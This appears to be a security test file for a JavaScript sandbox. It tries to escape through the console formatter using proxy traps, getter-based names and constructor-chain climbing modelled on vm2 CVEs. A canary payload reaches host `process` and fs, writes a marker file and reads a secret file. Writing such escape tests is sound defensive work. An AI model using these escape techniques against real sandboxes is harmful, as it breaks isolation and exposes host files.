// attack: climb from console and its methods, and make the console's formatter run guest code: a function whose `name` is a getter (or a Proxy function), an object whose prototype chain is a Proxy (instanceof walks it), an Error subclass with inherited name/message getters, a revoked proxy; every trap/getter climbs `this` and every argument the host formatter passed
// source: CVE-2023-37903 (vm2 custom inspect), CVE-2023-32314 (host formatter hands host arrays to a Proxy trap), vm2 GHSA-47x8-96vw-5wg6; sesame console.ts (formats values itself)
// needs: none
// category: escape
// expect: blocked - the formatter is host code but hands guest code only guest values and shared intrinsics
const ID = '105-console-chains';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [['console', console]];
for (const k of Reflect.ownKeys(console)) values.push(['console.' + String(k), console[k]]);
let trapped = 0;
const sink = (label, thiz, args) => { trapped++; values.push([label + ' this', thiz]); values.push([label + ' arguments', args]); for (let i = 0; i < args.length; i++) values.push([label + ' arg' + i, args[i]]); };
const traps = (label) => {
  const h = {};
  for (const trap of ['get', 'getPrototypeOf', 'has', 'ownKeys', 'getOwnPropertyDescriptor', 'apply', 'construct', 'set', 'defineProperty']) {
    h[trap] = function (...args) { sink(label + ' ' + trap, this, args); return Reflect[trap](...args); };
  }
  return h;
};
class Named { static get name() { sink('static name getter', this, arguments); return 'Named'; } }
const proxyFn = new Proxy(function f() {}, traps('proxy function'));
const protoProxy = Object.create(new Proxy({}, traps('prototype proxy')));
class Sneaky extends Error {}
Object.defineProperty(Sneaky.prototype, 'name', { get() { sink('inherited name getter', this, arguments); return 'Sneaky'; } });
Object.defineProperty(Sneaky.prototype, 'message', { get() { sink('inherited message getter', this, arguments); return 'm'; } });
const { proxy: revoked, revoke } = Proxy.revocable({}, {});
revoke();
const cases = [['static name getter', Named], ['proxy function', proxyFn], ['prototype proxy', protoProxy], ['Error subclass getters', new Sneaky()], ['revoked proxy', revoked],
  ['nested', { a: [Named, protoProxy, { b: proxyFn }] }], ['symbol', Symbol('s')], ['bigint', 10n]];
for (const [label, v] of cases) {
  for (const m of ['log', 'warn', 'error', 'info', 'debug', 'trace']) {
    try { const r = console[m](label, v); if (r !== undefined) values.push(['console.' + m + ' returned', r]); } catch (e) { values.push(['console.' + m + ' threw', e]); note(label + ' ' + m + ': ' + msg(e)); }
  }
}
try { Reflect.apply(console.log, new Proxy({}, traps('this proxy')), ['x']); } catch (e) { note('log with proxy this: ' + msg(e)); }
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold, hostTriggeredGuestCode: trapped };
